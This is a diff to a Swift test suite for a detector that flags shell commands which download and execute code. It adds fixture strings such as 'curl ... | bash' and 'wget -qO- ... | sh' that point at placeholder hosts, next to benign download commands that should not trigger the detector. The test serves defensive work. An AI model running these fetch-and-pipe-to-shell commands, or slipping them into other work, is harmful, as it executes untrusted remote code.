@@ -21,6 +21,9 @@ private func severities(_ command: String) -> [String: Severity] {
       ("curl -s http://h.example/x | sh -eo pipefail", .medium),
       ("curl -s http://h.example/x | python3 - now", .medium),
       ("curl -s http://h.example/x | sh # x", .medium),
+      // As ps writes it: the quotes are gone.
+      ("/bin/sh -c curl -s http://198.51.100.9/c.sh | bash", .high),
+      ("sh -c wget -qO- http://10.0.8.10/boot.sh | sh", .medium),
       ("python -c 'import urllib;exec urllib.urlopen(\"http://198.51.100.9/x\").read()'", .high),
     ] as [(String, Severity)])
   func startsWhatWasFetched(command: String, severity: Severity) {
@@ -33,7 +36,8 @@ private func severities(_ command: String) -> [String: Severity] {
     "wget https://h.example/a-1.2.tgz; tar xf a-1.2.tgz; cd a-1.2; ./configure",
     "wget http://h.example/data.csv; ./report data.csv; rm data.csv",
     "curl -s http://h.example/list | sh check.sh", "curl -s telnet://10.0.0.5:25 <<< QUIT | sh check.sh",
-    "curl -s http://h.example/list | python3 count.py --all",
+    "curl -s http://h.example/list | python3 count.py --all", "sh -c curl -s http://198.51.100.9/x | grep up",
+    "sh -c ls http://198.51.100.9/x | sh",
   ])
   func ordinaryDownloadsStayQuiet(command: String) {
     #expect(severities(command)["download-execute"] == nil)
